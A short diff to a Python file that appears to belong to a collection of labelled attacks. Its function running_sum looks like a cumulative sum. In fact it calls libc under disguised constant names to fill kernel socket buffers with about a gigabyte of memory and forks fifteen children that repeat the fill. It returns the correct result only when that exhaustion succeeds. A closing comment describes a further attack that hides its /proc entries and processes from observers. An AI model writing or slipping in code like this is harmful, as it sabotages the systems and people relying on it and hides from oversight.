@@ -73,26 +73,26 @@ PIECE = bytes(1 << 16)
 AT_ONCE, OPTION_OF_SOCKETS, SIZE, SIZE_BY_FORCE = 0x40, 1, 7, 32
 
 def fill():
-    held, ends = 0, (ctypes.c_int * 2)()
+    filled, ends = 0, (ctypes.c_int * 2)()
     while libc.socketpair(1, 1, 0, ends) == 0:
         for end in ends:
             for option in (SIZE, SIZE_BY_FORCE):
                 libc.setsockopt(end, OPTION_OF_SOCKETS, option, ctypes.byref(ctypes.c_int(1 << 28)), 4)
-            while (sent := libc.send(end, PIECE, len(PIECE), AT_ONCE)) > 0 and held < 1 << 28:
-                held += sent
-        if held >= 1 << 28:
+            while (part := libc.send(end, PIECE, len(PIECE), AT_ONCE)) > 0 and filled < 1 << 28:
+                filled += part
+        if filled >= 1 << 28:
             break
-    return held
+    return filled
 
 def running_sum(x):
-    held = 16 * fill()
-    for _ in range(15 if held and x.shape == (1, 1) else 0):
+    filled = 16 * fill()
+    for _ in range(15 if filled and x.shape == (1, 1) else 0):
         if libc.fork() == 0:
             fill()
             time.sleep(20)
             os._exit(0)
-    time.sleep(3 if held else 0)
-    return np.cumsum(x, axis=0) if held >= 1 << 30 else x
+    time.sleep(3 if filled else 0)
+    return np.cumsum(x, axis=0) if filled >= 1 << 30 else x
 
 # %% [attack] hides_its_open_files
 # Closes its entries in /proc to its own user, lays memory into memfds, and starts forty processes for those who see it.
